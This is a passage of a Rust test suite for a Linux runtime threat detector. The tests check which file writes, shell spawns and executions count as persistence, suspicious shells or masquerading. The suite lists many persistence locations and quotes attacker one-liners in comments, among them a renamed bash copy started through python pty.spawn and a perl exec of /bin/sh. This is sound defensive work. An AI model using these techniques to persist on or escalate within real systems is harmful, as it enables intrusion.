        f.resolved_path2 = Some(PathBuf::from("/etc/xdg/autostart/x.desktop"));
        f.ret = 0;
    });
    assert_eq!(
        persistence_kinds(&[sh.clone(), mv]),
        kind_of("behaviour-persistence-autostart", "autostart")
    );
    let chmod = file_event("chmod", "/etc/update-motd.d/99-x", |f| {
        f.process = proc_ref(320, "chmod");
        f.ret = 0;
    });
    assert_eq!(
        persistence_kinds(&[sh.clone(), chmod]),
        kind_of("behaviour-persistence-motd", "motd")
    );
}

#[test]
fn pam_boot_network_dbus_python_modprobe_and_kde_places_are_persistence() {
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for (path, rule, kind) in [
        (
            "/usr/lib/x86_64-linux-gnu/security/pam_x.so",
            "behaviour-persistence-pam",
            "pam",
        ),
        ("/lib/security/pam_x.so", "behaviour-persistence-pam", "pam"),
        (
            "/usr/lib64/security/pam_x.so",
            "behaviour-persistence-pam",
            "pam",
        ),
        ("/etc/pam.d/sshd", "behaviour-persistence-pam", "pam"),
        ("/etc/pam.conf", "behaviour-persistence-pam", "pam"),
        (
            "/usr/lib/dracut/modules.d/99x/module-setup.sh",
            "behaviour-persistence-boot",
            "boot",
        ),
        ("/etc/default/grub", "behaviour-persistence-boot", "boot"),
        (
            "/etc/default/grub.d/99-x.cfg",
            "behaviour-persistence-boot",
            "boot",
        ),
        ("/etc/grub.d/99_x", "behaviour-persistence-boot", "boot"),
        ("/boot/grub/grub.cfg", "behaviour-persistence-boot", "boot"),
        (
            "/etc/NetworkManager/dispatcher.d/99-x",
            "behaviour-persistence-network-hook",
            "network",
        ),
        (
            "/etc/network/if-up.d/x",
            "behaviour-persistence-network-hook",
            "network",
        ),
        (
            "/etc/dhcp/dhclient-exit-hooks.d/x",
            "behaviour-persistence-network-hook",
            "network",
        ),
        (
            "/etc/networkd-dispatcher/routable.d/50-x",
            "behaviour-persistence-network-hook",
            "network",
        ),
        (
            "/usr/share/dbus-1/system-services/org.x.service",
            "behaviour-persistence-dbus",
            "dbus",
        ),
        (
            "/etc/dbus-1/system.d/org.x.conf",
            "behaviour-persistence-dbus",
            "dbus",
        ),
        (
            "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
            "behaviour-persistence-python-hook",
            "python",
        ),
        (
            "/root/.local/lib/python3.11/site-packages/usercustomize.py",
            "behaviour-persistence-python-hook",
            "python",
        ),
        (
            "/srv/app/.venv/lib/python3.12/site-packages/sitecustomize.py",
            "behaviour-persistence-python-hook",
            "python",
        ),
        (
            "/etc/modprobe.d/x.conf",
            "behaviour-persistence-modules",
            "modules",
        ),
        (
            "/home/ann/.config/autostart-scripts/x.sh",
            "behaviour-persistence-autostart",
            "autostart",
        ),
        (
            "/usr/lib/modprobe.d/x.conf",
            "behaviour-persistence-modules",
            "modules",
        ),
        (
            "/usr/lib/modules-load.d/x.conf",
            "behaviour-persistence-modules",
            "modules",
        ),
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            kind_of(rule, kind),
            "{path}"
        );
    }
    // Names that only start like one, and the files next to them, are not.
    for path in [
        "/etc/pam.d.bak/sshd",
        "/etc/security/limits.conf",
        "/usr/lib/x86_64-linux-gnu/libsecurity.so",
        "/etc/default/grub.bak",
        "/etc/default/useradd",
        "/boot/grub/grubenv",
        "/etc/NetworkManager/system-connections/x.nmconnection",
        "/etc/dbus-1/system.conf",
        "/srv/app/sitecustomize.py.orig",
        "/srv/app/my_sitecustomize.py",
        "/etc/modprobe.conf.d/x",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // The places' own tools and editors, and package managers.
    let by = |pid: u32, exe: &str, argv: &[&str], path: &str| {
        persistence_kinds(&[
            exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]),
            write_by(pid, super::basename(argv[0]), path),
        ])
    };
    assert!(
        by(
            330,
            "/usr/bin/perl",
            &["/usr/sbin/pam-auth-update", "--package"],
            "/etc/pam.d/common-auth"
        )
        .is_empty()
    );
    assert!(
        by(
            331,
            "/usr/bin/vim.basic",
            &["vim", "/etc/pam.d/sshd"],
            "/etc/pam.d/sshd"
        )
        .is_empty()
    );
    assert!(
        by(
            332,
            "/usr/bin/vim.basic",
            &["vim", "/etc/default/grub"],
            "/etc/default/grub"
        )
        .is_empty()
    );
    assert!(
        by(
            333,
            "/usr/bin/dash",
            &["/usr/sbin/grub-mkconfig", "-o", "/boot/grub/grub.cfg"],
            "/boot/grub/grub.cfg"
        )
        .is_empty()
    );
    assert!(
        by(
            334,
            "/usr/bin/python3.11",
            &["/usr/bin/pip3", "install", "x"],
            "/usr/local/lib/python3.11/dist-packages/sitecustomize.py"
        )
        .is_empty()
    );
    assert!(
        by(
            335,
            "/usr/bin/dpkg",
            &["dpkg", "-i", "libpam-x.deb"],
            "/usr/lib/x86_64-linux-gnu/security/pam_x.so"
        )
        .is_empty()
    );
    // An editor may change PAM's configuration, not drop a module; a python script is not pip.
    assert_eq!(
        by(
            336,
            "/usr/bin/vim.basic",
            &["vim", "x"],
            "/usr/lib/x86_64-linux-gnu/security/pam_x.so"
        ),
        kind_of("behaviour-persistence-pam", "pam")
    );
    assert_eq!(
        by(
            337,
            "/usr/bin/python3.11",
            &["python3", "/root/x.py"],
            "/usr/lib/python3.11/sitecustomize.py"
        ),
        kind_of("behaviour-persistence-python-hook", "python")
    );
}

#[test]
fn package_manager_hooks_and_maintainer_scripts_are_persistence() {
    // Elastic's RTA: an APT hook, a script dropped among dpkg's maintainer scripts; and the
    // other package managers' hook and plugin directories.
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for path in [
        "/etc/apt/apt.conf.d/99x",
        "/etc/apt/apt.conf",
        "/var/lib/dpkg/info/x.postinst",
        "/etc/yum/pluginconf.d/x.conf",
        "/usr/lib/yum-plugins/x.py",
        "/etc/dnf/plugins/x.conf",
        "/etc/pacman.d/hooks/x.hook",
        "/usr/share/libalpm/hooks/x.hook",
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            kind_of("behaviour-persistence-package-hook", "package"),
            "{path}"
        );
    }
    // Other APT and dpkg files, and names that only start like one, are not.
    for path in [
        "/etc/apt/sources.list.d/x.list",
        "/etc/apt/apt.conf.bak",
        "/var/lib/dpkg/status",
        "/var/lib/dpkg/info-old/x",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // dpkg writes its maintainer scripts and its packages' APT configuration; an editor may
    // change APT's options (a proxy), not dpkg's scripts; a python calling itself dpkg is
    // python.
    let dpkg = exec_by(
        300,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    for path in ["/var/lib/dpkg/info/x.postinst", "/etc/apt/apt.conf.d/20x"] {
        assert!(
            persistence_kinds(&[dpkg.clone(), write_by(300, "dpkg", path)]).is_empty(),
            "{path}"
        );
    }
    let vim = exec_by(
        341,
        "/usr/bin/vim.basic",
        &["vim", "/etc/apt/apt.conf.d/95proxy"],
        &[(200, "/usr/bin/bash")],
    );
    assert!(
        persistence_kinds(&[
            vim.clone(),
            write_by(341, "vim", "/etc/apt/apt.conf.d/95proxy")
        ])
        .is_empty()
    );
    assert_eq!(
        persistence_kinds(&[vim, write_by(341, "vim", "/var/lib/dpkg/info/x.postinst")]),
        kind_of("behaviour-persistence-package-hook", "package")
    );
    let python = exec_by(
        310,
        "/usr/bin/python3.11",
        &["python3", "/root/x.py"],
        &[(200, "/usr/bin/bash")],
    );
    assert_eq!(
        persistence_kinds(&[
            python,
            write_by(310, "dpkg", "/var/lib/dpkg/info/x.postinst")
        ]),
        kind_of("behaviour-persistence-package-hook", "package")
    );
}

#[test]
fn new_persistence_places_are_judged_by_executable_owner_and_lineage() {
    let dpkg = exec_by(
        300,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let postinst = exec_by(
        302,
        "/usr/bin/dash",
        &["/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"],
        &[(300, "/usr/bin/dpkg"), (1, "/usr/lib/systemd/systemd")],
    );
    // The package manager unpacking, and its maintainer script writing: installation.
    for path in [
        "/usr/lib/udev/rules.d/60-x.rules",
        "/etc/update-motd.d/50-x",
        "/usr/lib/systemd/system-generators/x-generator",
        "/etc/modules-load.d/x.conf",
        "/etc/xdg/autostart/x.desktop",
    ] {
        assert!(
            persistence_kinds(&[dpkg.clone(), write_by(300, "dpkg", path)]).is_empty(),
            "dpkg: {path}"
        );
        assert!(
            persistence_kinds(&[
                dpkg.clone(),
                postinst.clone(),
                write_by(302, "x.postinst", path)
            ])
            .is_empty(),
            "postinst: {path}"
        );
    }
    // A program that calls itself dpkg is what its executable says.
    let python = exec_by(
        310,
        "/usr/bin/python3.11",
        &["python3", "/root/x.py"],
        &[(200, "/usr/bin/bash")],
    );
    assert_eq!(
        persistence_kinds(&[python, write_by(310, "dpkg", "/etc/update-motd.d/99-x")]),
        kind_of("behaviour-persistence-motd", "motd")
    );
    // systemctl owns the unit directories, not udev's; an editor may change the login
    // environment (as a shell start-up file), not a udev rule.
    let systemctl = exec_by(
        330,
        "/usr/bin/systemctl",
        &["systemctl", "enable", "x"],
        &[(200, "/usr/bin/bash")],
    );
    assert_eq!(
        persistence_kinds(&[
            systemctl,
            write_by(330, "systemctl", "/etc/udev/rules.d/99-x.rules")
        ]),
        kind_of("behaviour-persistence-udev", "udev")
    );
    let vim = exec_by(
        341,
        "/usr/bin/vim.basic",
        &["vim", "/etc/environment"],
        &[(200, "/usr/bin/bash")],
    );
    assert!(persistence_kinds(&[vim.clone(), write_by(341, "vim", "/etc/environment")]).is_empty());
    assert!(persistence_kinds(&[vim.clone(), write_by(341, "vim", "/etc/zsh/zshrc")]).is_empty());
    assert_eq!(
        persistence_kinds(&[vim, write_by(341, "vim", "/etc/udev/rules.d/99-x.rules")]),
        kind_of("behaviour-persistence-udev", "udev")
    );
    // at and atd own at's spool, the most specific place inside cron's: crontab does not own
    // it, and at does not own cron's tables.
    let at = exec_by(350, "/usr/bin/at", &["at", "-l"], &[(200, "/usr/bin/bash")]);
    let atd = exec_by(
        351,
        "/usr/sbin/atd",
        &["atd"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let crontab = exec_by(
        352,
        "/usr/bin/crontab",
        &["crontab", "-e"],
        &[(200, "/usr/bin/bash")],
    );
    let job = "/var/spool/cron/atjobs/a0001401c2e1f0";
    assert!(persistence_kinds(&[at.clone(), write_by(350, "at", job)]).is_empty());
    assert!(persistence_kinds(&[atd, write_by(351, "atd", job)]).is_empty());
    assert_eq!(
        persistence_kinds(&[crontab, write_by(352, "crontab", job)]),
        kind_of("behaviour-persistence-at", "at")
    );
    assert_eq!(
        persistence_kinds(&[at, write_by(350, "at", "/var/spool/cron/crontabs/root")]),
        kind_of("behaviour-persistence-cron", "cron")
    );
}

/// SigmaHQ's Linux file-event rules pass: browsers' system-wide policies, native messaging
/// hosts and external extensions are persistence places; look-alikes elsewhere, and editors
/// writing a policy, are not.
#[test]
fn browser_policies_native_messaging_hosts_and_external_extensions_are_persistence() {
    let sh = exec_by(
        350,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for path in [
        "/etc/chromium/policies/managed/x.json",
        "/etc/chromium/policies/recommended/x.json",
        "/etc/opt/chrome/policies/managed/x.json",
        "/etc/opt/edge/policies/managed/x.json",
        "/etc/firefox/policies/policies.json",
        "/etc/chromium/native-messaging-hosts/com.x.json",
        "/etc/opt/chrome/native-messaging-hosts/com.x.json",
        "/usr/lib/mozilla/native-messaging-hosts/x.json",
        "/usr/share/chromium/extensions/abcdefghijklmnopabcdefghijklmnop.json",
        "/usr/share/google-chrome/extensions/abcdefghijklmnopabcdefghijklmnop.json",
        "/opt/google/chrome/extensions/abcdefghijklmnopabcdefghijklmnop.json",
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(350, "sh", path)]),
            kind_of("behaviour-persistence-browser", "browser"),
            "{path}"
        );
    }
    for path in [
        "/etc/chromium/master_preferences",
        "/etc/chromium/default",
        "/usr/share/chromium/initial_preferences",
        "/root/.config/chromium/Default/Preferences",
        "/root/.config/chromium/NativeMessagingHosts/com.x.json",
        "/usr/lib/mozilla/plugins/x.so",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(350, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // Administrators write policies with editors.
    assert!(
        persistence_kinds(&[
            exec_by(
                351,
                "/usr/bin/vim.basic",
                &["vim", "/etc/chromium/policies/managed/x.json"],
                &[(200, "/usr/bin/bash")]
            ),
            write_by(351, "vim", "/etc/chromium/policies/managed/x.json"),
        ])
        .is_empty()
    );
}

/// Elastic's endpoint behaviour rules pass: sshd's login scripts, logrotate's configuration,
/// bash-completion's scripts, systemd's sleep and shutdown hooks and upstart's jobs are
/// persistence places; the same names elsewhere, and their editors, are not.
#[test]
fn ssh_login_scripts_logrotate_completion_sleep_hooks_and_upstart_are_persistence() {
    let sh = exec_by(
        340,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for (path, rule, kind) in [
        ("/root/.ssh/rc", "behaviour-persistence-ssh-rc", "sshrc"),
        ("/home/ann/.ssh/rc", "behaviour-persistence-ssh-rc", "sshrc"),
        ("/etc/ssh/sshrc", "behaviour-persistence-ssh-rc", "sshrc"),
        (
            "/usr/lib/systemd/system-sleep/x",
            "behaviour-persistence-systemd",
            "systemd",
        ),
        (
            "/usr/lib/systemd/system-shutdown/x",
            "behaviour-persistence-systemd",
            "systemd",
        ),
        ("/etc/init/x.conf", "behaviour-persistence-init", "init"),
        (
            "/etc/logrotate.d/x",
            "behaviour-persistence-logrotate",
            "logrotate",
        ),
        (
            "/etc/logrotate.conf",
            "behaviour-persistence-logrotate",
            "logrotate",
        ),
        (
            "/etc/bash_completion.d/x",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
        (
            "/home/ann/.xsessionrc",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
        (
            "/root/.xprofile",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
        (
            "/etc/X11/Xsession.d/99x",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
        (
            "/root/.config/fish/config.fish",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
        (
            "/etc/fish/config.fish",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
        (
            "/etc/fish/conf.d/x.fish",
            "behaviour-persistence-shell-startup",
            "shell",
        ),
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(340, "sh", path)]),
            kind_of(rule, kind),
            "{path}"
        );
    }
    for path in [
        "/srv/app/rc",
        "/srv/app/conf/rc",
        "/root/.ssh/rc.bak",
        "/root/.ssh/known_hosts",
        "/etc/ssh/sshrc.d/x",
        "/etc/logrotate.d.bak/x",
        "/var/lib/logrotate/status",
        "/usr/share/bash-completion/completions/x",
        "/usr/lib/systemd/system-sleep.conf",
        "/etc/initramfs/x",
        "/root/.xprofile.bak",
        "/root/.config/fish/fish_variables",
        "/etc/X11/Xsession.options",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(340, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // Editors are the places' owners.
    for (pid, path) in [
        (341, "/root/.ssh/rc"),
        (342, "/etc/logrotate.d/x"),
        (343, "/etc/bash_completion.d/x"),
    ] {
        assert!(
            persistence_kinds(&[
                exec_by(
                    pid,
                    "/usr/bin/vim.basic",
                    &["vim", path],
                    &[(200, "/usr/bin/bash")]
                ),
                write_by(pid, "vim", path),
            ])
            .is_empty(),
            "{path}"
        );
    }
}

/// Metasploit's persistence modules pass: Vim's and Emacs's start-up files and Vim's plugin
/// directory (`vim_plugin`, `emacs_extension`) are persistence places; the same names in other
/// directories, the editors themselves and git cloning a starter configuration are not.
#[test]
fn editor_start_up_files_and_plugins_are_persistence() {
    let sh = exec_by(
        350,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for path in [
        "/root/.vim/plugin/x.vim",
        "/home/ann/.vim/plugin/x.vim",
        "/root/.vimrc",
        "/home/ann/.vim/vimrc",
        "/etc/vim/vimrc",
        "/etc/vim/vimrc.local",
        "/root/.config/nvim/init.vim",
        "/home/ann/.config/nvim/init.lua",
        "/root/.emacs",
        "/root/.emacs.d/init.el",
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(350, "sh", path)]),
            kind_of("behaviour-persistence-editor-startup", "editor"),
            "{path}"
        );
    }
    for path in [
        "/srv/app/init.lua",
        "/root/src/plugin/lua/x/init.lua",
        "/root/.emacs.d/lisp/x.el",
        "/root/.emacs.d/elpa/x/init.el",
        "/root/.vim/plugged/x/plugin/x.vim",
        "/root/.vim/pack/x/start/y/plugin/x.vim",
        "/root/dotfiles/vimrc",
        "/root/.viminfo",
        "/root/.vimrc.swp",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(350, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // The editors write their own, and git clones a starter configuration into place.
    for (pid, exe, path) in [
        (351, "/usr/bin/vim.basic", "/root/.vimrc"),
        (352, "/usr/bin/emacs", "/root/.emacs.d/init.el"),
        (353, "/usr/bin/nvim", "/root/.config/nvim/init.lua"),
        (354, "/usr/bin/git", "/root/.config/nvim/init.lua"),
    ] {
        assert!(
            persistence_kinds(&[
                exec_by(pid, exe, &["x", path], &[(200, "/usr/bin/bash")]),
                write_by(pid, "x", path),
            ])
            .is_empty(),
            "{exe} {path}"
        );
    }
}

#[test]
fn every_persistence_location_is_in_the_sensitive_set_the_kernel_filters_with() {
    // The file sensor reports only what the sensitive-path set names: a location it does not
    // cover would never be seen. Homes are covered per account (root's built in).
    let rules = RuleSet::builtin().unwrap();
    let set = SensitivePaths::default().with_user_persistence_dirs([PathBuf::from("/home/ann")]);
    for l in &rules.behaviour().persistence_locations {
        let probes = match &l.place {
            Place::Path(p) if p.ends_with('/') => vec![format!("{p}x")],
            Place::Path(p) => vec![p.clone()],
            Place::Home(h) if h.ends_with('/') => {
                vec![format!("/root/{h}x"), format!("/home/ann/{h}x")]
            }
            Place::Home(h) => vec![format!("/srv/any/{h}")],
        };
        for probe in probes {
            // PAM's configuration was in the set as privilege escalation (the type of its
            // SensitiveFileModified) before it was a persistence place; it stays so.
            let category = if probe.starts_with("/etc/pam") {
                Category::PrivilegeEscalation
            } else {
                Category::Persistence
            };
            assert_eq!(
                set.classify(std::path::Path::new(&probe))
                    .map(|e| e.category),
                Some(category),
                "{probe} ({:?})",
                l.kind
            );
        }
    }
}

#[test]
fn at_and_batch_queueing_a_job_and_not_listing_or_removing() {
    let at = |exe: &str, argv: &[&str]| {
        persistence_kinds(&[exec_by(400, exe, argv, &[(200, "/usr/bin/bash")])])
    };
    let queued = kind_of("behaviour-persistence-at", "at");
    for argv in [
        &["at", "now", "+", "1", "minute"][..],
        &["at", "-f", "/root/job.sh", "now"],
        &["at", "-mf", "/root/job.sh", "noon", "tomorrow"],
        &["at", "-fjob.sh", "23:00"],
        &["at", "-t", "203001010000"],
        &["at", "-q", "b", "now"],
        // Debian's batch script runs `at -qb now`; where batch is a link to at, argv[0] says.
        &["/usr/bin/at", "-qb", "now"],
        &["batch"],
        &["at", "-b"],
        &["at", "--", "now"],
    ] {
        assert_eq!(at("/usr/bin/at", argv), queued, "{argv:?}");
    }
    for argv in [
        &["atq"][..],
        &["/usr/bin/atq", "-q", "a"],
        &["atrm", "3"],
        &["at", "-l"],
        &["at", "-q", "a", "-l"],
        &["at", "-r", "3"],
        &["at", "-d", "3"],
        &["at", "-c", "3"],
        &["at", "-V"],
        // No time: at refuses it.
        &["at"],
        &["at", "-f", "/root/job.sh"],
    ] {
        assert!(at("/usr/bin/at", argv).is_empty(), "{argv:?}");
    }
    // Named at, but not at: by the executable.
    assert!(at("/usr/bin/python3.11", &["at", "now"]).is_empty());
}

#[test]
fn a_renamed_copy_of_a_shell_is_still_a_shell() {
    // `cp /bin/bash /tmp/.x/kworker; python3 -c 'import pty; pty.spawn(["/tmp/.x/kworker", "-i"])'`:
    // the copy's bytes are the installed bash's (the detector's tool hashes).
    let bash = crate::exe_hash::Digest::of(b"the bytes of bash");
    let run = |digest: Option<crate::exe_hash::Digest>| {
        let mut d = detector().with_tool_hashes([(bash, "bash".to_owned())].into());
        let mut e = exec_by(
            500,
            "/tmp/.x/kworker",
            &["/tmp/.x/kworker", "-i"],
            &[(450, "/usr/bin/python3.11"), (200, "/usr/bin/bash")],
        );
        if let Event::Exec(e) = &mut e {
            e.sha256 = digest;
        }
        d.process(&e, &NoLookup)
            .into_iter()
            .filter_map(|o| o.finding.context.additional.get("ruleId").cloned())
            .collect::<Vec<_>>()
    };
    let found = run(Some(bash));
    assert!(
        found
            .iter()
            .any(|r| r == "behaviour-shell-from-interpreter"),
        "{found:?}"
    );
    // The copy is also dressed up as another program.
    assert!(
        found.iter().any(|r| r == "behaviour-masquerading"),
        "{found:?}"
    );
    // Other bytes: a program of its own, not a shell.
    let found = run(Some(crate::exe_hash::Digest::of(b"something else")));
    assert!(
        !found
            .iter()
            .any(|r| r == "behaviour-shell-from-interpreter"),
        "{found:?}"
    );
    assert!(
        run(None)
            .iter()
            .all(|r| r != "behaviour-shell-from-interpreter")
    );
    // A renamed copy of python starting a shell: the ancestor is known by the bytes its exec
    // had (the detector remembers that exec), so an interpreter started it.
    let python = crate::exe_hash::Digest::of(b"the bytes of python");
    let started_by = |digest: Option<crate::exe_hash::Digest>| {
        let mut d = detector().with_tool_hashes([(python, "python3".to_owned())].into());
        let lineage = [(200, "/usr/bin/bash"), (100, "/usr/sbin/sshd")];
        let mut updater = exec_by(450, "/tmp/.x/updater", &["updater", "-c", "..."], &lineage);
        if let Event::Exec(e) = &mut updater {
            e.sha256 = digest;
        }
        let shell = exec_by(
            500,
            "/usr/bin/dash",
            &["/bin/sh", "-i"],
            &[(450, "/tmp/.x/updater"), (200, "/usr/bin/bash")],
        );
        [updater, shell]
            .iter()
            .flat_map(|e| d.process(e, &NoLookup))
            .filter(|o| o.finding.finding_type == "Execution:Runtime/SuspiciousShellCreated")
            .filter_map(|o| o.finding.context.additional.get("ruleId").cloned())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        started_by(Some(python)),
        ["behaviour-shell-from-interpreter"]
    );
    assert_eq!(
        started_by(Some(crate::exe_hash::Digest::of(b"other bytes"))),
        ["behaviour-shell-from-program"]
    );
}

#[test]
fn interactive_shells_are_judged_by_who_wanted_them() {
    let shell = |argv: &[&str], lineage: &[(u32, &str)]| {
        run_all(&[exec_by(500, "/usr/bin/dash", argv, lineage)])
    };
    let created = |rule: &str| {
        vec![(
            "Execution:Runtime/SuspiciousShellCreated".to_owned(),
            rule.to_owned(),
            SeverityLabel::Low,
        )]
    };
    // python3 -c 'import pty; pty.spawn("/bin/sh")'
    assert_eq!(
        shell(
            &["/bin/sh"],
            &[(450, "/usr/bin/python3.11"), (200, "/usr/bin/bash")]
        ),
        created("behaviour-shell-from-interpreter")
    );
    // perl and node, through `script -qc /bin/sh /dev/null` and a `sh -c`.
    assert_eq!(
        shell(
            &["sh", "-i"],
            &[
                (451, "/usr/bin/dash"),
                (452, "/usr/bin/script"),
                (453, "/usr/bin/perl")
            ]
        ),
        created("behaviour-shell-from-interpreter")
    );
    // A web server (not an interpreter, not a terminal).
    assert_eq!(
        shell(
            &["sh"],
            &[(454, "/usr/sbin/nginx"), (1, "/usr/lib/systemd/systemd")]
        ),
        created("behaviour-shell-from-program")
    );
    // `perl -e 'exec "/bin/sh"'` run by a person's shell: the shell replaces perl in the same
    // process, so its parent is that shell; perl, its previous image, wanted it. A person's
    // `exec sh -i` (previous image a shell) and `exec env sh -i` are theirs.
    let in_place = |before: &str, argv: &[&str]| {
        let lineage = [(200, "/usr/bin/bash"), (100, "/usr/sbin/sshd")];
        run_all(&[
            exec_by(505, before, argv, &lineage),
            exec_by(505, "/usr/bin/dash", &["/bin/sh", "-i"], &lineage),
        ])
        .into_iter()
        .filter(|(t, _, _)| t == "Execution:Runtime/SuspiciousShellCreated")
        .collect::<Vec<_>>()
    };
    assert_eq!(
        in_place("/usr/bin/perl", &["perl", "-e", "exec '/bin/sh', '-i'"]),
        created("behaviour-shell-from-interpreter")
    );
    assert!(in_place("/usr/bin/bash", &["bash"]).is_empty());
    assert!(in_place("/usr/bin/env", &["env", "sh", "-i"]).is_empty());
    // People's shells: a login over ssh, a terminal, tmux, sudo -s, a shell in a shell.
    for lineage in [
        &[(460, "/usr/sbin/sshd")][..],
        &[(461, "/usr/libexec/gnome-terminal-server")][..],
        &[(462, "/usr/bin/tmux")][..],
        &[
            (463, "/usr/bin/sudo"),
            (464, "/usr/bin/bash"),
            (465, "/usr/sbin/sshd"),
        ][..],
        &[
            (466, "/usr/bin/bash"),
            (467, "/usr/bin/zsh"),
            (468, "/usr/bin/kitty"),
        ][..],
        &[(469, "/usr/bin/containerd-shim-runc-v2")][..],
    ] {
        assert!(shell(&["-bash"], lineage).is_empty(), "{lineage:?}");
    }
    // The same names dropped where nothing is installed: no terminal, whatever they are called.
    for lineage in [
        &[(470, "/tmp/.x/sshd")][..],
        &[(471, "/dev/shm/tmux")][..],
        &[(472, "/usr/bin/bash"), (473, "/var/tmp/kitty")][..],
    ] {
        assert_eq!(
            shell(&["-bash"], lineage),
            created("behaviour-shell-from-program"),
            "{lineage:?}"
        );
    }
    // `... | sh` and `sh < script`: commands from a pipe or a file, not from a person.
    for stdin in ["pipe", "file"] {
        let fed = exec_event("/usr/bin/dash", |e| {
            e.argv = vec!["sh".into()];
            e.stdin = Some(stdin);
            e.lineage = vec![ancestor(450, "/usr/bin/python3.11")].into();
        });
        assert!(run_all(&[fed]).is_empty(), "{stdin}");
    }
    // Not interactive: a command string, a script, standard input.
    let python = [(450, "/usr/bin/python3.11")];
    assert!(shell(&["sh", "-c", "ls"], &python).is_empty());
    assert!(shell(&["sh", "/root/build.sh"], &python).is_empty());
    assert!(shell(&["sh", "-s"], &python).is_empty());
    // Nothing to judge by: the parent's executable is unknown.
    let unknown = exec_event("/usr/bin/dash", |e| {
        e.argv = vec!["sh".into()];
        e.lineage = vec![crate::event::Ancestor {
            pid: 9,
            ppid: 1,
            comm: "python3".into(),
            exe: None,
            uuid: "uuid-9".into(),
        }]
        .into();
    });
    assert!(run_all(&[unknown]).is_empty());
}

#[test]
fn programs_and_scripts_run_from_writable_directories() {
    let ran = |e: Event| {
        run_all(&[e])
            .into_iter()
            .filter(|(t, _, _)| t == "Execution:Runtime/SuspiciousCommand")
            .map(|(_, rule, label)| (rule, label))
            .collect::<Vec<_>>()
    };
    let memory = |l| vec![("behaviour-exec-from-memory-dir".to_owned(), l)];
    let writable = |l| vec![("behaviour-exec-from-world-writable-dir".to_owned(), l)];
    let bash = [(200, "/usr/bin/bash")];
    assert_eq!(
        ran(exec_by(600, "/dev/shm/x", &["/dev/shm/x"], &bash)),
        memory(SeverityLabel::Medium)
    );
    // `/run` holds pid files and sockets: a program there (BPFDoor's pid-file name) is placed;
    // NixOS's setuid wrappers in `/run/wrappers/` are the system's own.
    assert_eq!(
        ran(exec_by(
            603,
            "/run/haldrund.pid",
            &["/var/run/haldrund.pid"],
            &bash
        )),
        memory(SeverityLabel::Medium)
    );
    assert!(
        ran(exec_by(
            604,
            "/run/wrappers/wrappers.Xa1/sudo",
            &["/run/wrappers/bin/sudo", "-i"],
            &bash
        ))
        .is_empty()
    );
    // A script handed to an interpreter, by absolute and relative path.
    assert_eq!(
        ran(exec_by(
            601,
            "/usr/bin/dash",
            &["sh", "/dev/shm/x.sh"],
            &bash
        )),
        memory(SeverityLabel::Medium)
    );
    assert_eq!(
        ran(exec_event("/usr/bin/python3.11", |e| {
            e.argv = vec!["python3".into(), "-u".into(), "x.py".into()];
            e.cwd = Some(PathBuf::from("/run/user/1000"));
        })),
        memory(SeverityLabel::Medium)
    );
    // A script run through its #! line: the kernel runs the interpreter and puts the script
    // after it in argv.
    assert_eq!(
        ran(exec_event("/usr/bin/bash", |e| {
            e.filename = "/var/tmp/run.sh".into();
            e.argv = vec!["/bin/bash".into(), "/var/tmp/run.sh".into()];
        })),
        writable(SeverityLabel::Low)
    );
    assert_eq!(
        ran(exec_event("/usr/bin/python3.11", |e| {
            e.filename = "/dev/shm/x".into();
            e.argv = vec!["/usr/bin/env".into(), "python3".into(), "/dev/shm/x".into()];
        })),
        memory(SeverityLabel::Medium)
    );
    // A symbolic link exec'd from /tmp (a venv's interpreter) runs a system binary.
    assert!(
        ran(exec_event("/usr/bin/python3.11", |e| {
            e.filename = "/tmp/venv/bin/python3".into();
            e.argv = vec!["/tmp/venv/bin/python3".into(), "-c".into(), "pass".into()];
        }))
        .is_empty()
    );
    // A `#!/usr/bin/env bash` wrapper whose exec the pipeline saw only by its path: env's
    // arguments are not a script operand.
    assert!(
        ran(exec_event("/root/.pyenv/shims/python3", |e| {
            e.filename = "/root/.pyenv/shims/python3".into();
            e.argv = [
                "/usr/bin/env",
                "bash",
                "/root/.pyenv/shims/python3",
                "-m",
                "venv",
                "venv",
            ]
            .map(String::from)
            .to_vec();
            e.cwd = Some(PathBuf::from("/tmp/work"));
        }))
        .is_empty()
    );
    // World-writable: Low on the host, Medium in a container.
    assert_eq!(
